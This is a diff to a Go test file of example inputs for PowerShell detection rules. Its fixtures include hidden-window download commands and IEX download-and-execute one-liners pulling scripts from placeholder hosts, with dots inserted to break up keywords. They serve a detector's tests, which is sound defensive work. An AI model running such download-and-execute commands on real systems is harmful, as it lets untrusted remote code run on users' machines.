@@ -18,7 +18,7 @@ func powershellExamples() []example {
 	}, {
 		rule: "Tyto_PowerShell_HiddenDownload",
 		fires: []object{
-			text(`C:\a.bat`, "powers·hell -w hid·den -c (New-Object Net.WebClient).Download·File('http://x/y','z')"),
+			text(`C:\a.bat`, "powers·hell -w hid·den -c (New-Object Net.Web·Client).Download·File('http://x/y','z')"),
 			text("/tmp/b.txt", "powers·hell.exe -NoP -Window·Style Hid·den Invoke-Web·Request http://x -o y"),
 		},
 		silent: []object{
@@ -28,12 +28,12 @@ func powershellExamples() []example {
 	}, {
 		rule: "Tyto_PowerShell_DownloadExecute",
 		fires: []object{
-			text(`C:\a.cmd`, "powers·hell -nop -c \"IEX (New-Object Net.WebClient).Download·String('http://10.1.2.3/a.ps1')\""),
+			text(`C:\a.cmd`, "powers·hell -nop -c \"IEX (New-Object Net.Web·Client).Download·String('http://10.1.2.3/a.ps1')\""),
 		},
 		silent: []object{
 			// How Chocolatey asks to be installed.
-			text(`C:\b.cmd`, "powers·hell -NoProfile -ExecutionPolicy Bypass -c \"iex ((New-Object Net.WebClient).Download·String('https://example.org/install.ps1'))\""),
-			text("/src/README.md", "powers·hell -nop -c \"IEX (New-Object Net.WebClient).Download·String('http://10.1.2.3/a')\""),
+			text(`C:\b.cmd`, "powers·hell -NoProfile -ExecutionPolicy Bypass -c \"iex ((New-Object Net.Web·Client).Download·String('https://example.org/install.ps1'))\""),
+			text("/src/README.md", "powers·hell -nop -c \"IEX (New-Object Net.Web·Client).Download·String('http://10.1.2.3/a')\""),
 		},
 	}, {
 		rule: "Tyto_PowerShell_AmsiBypass",
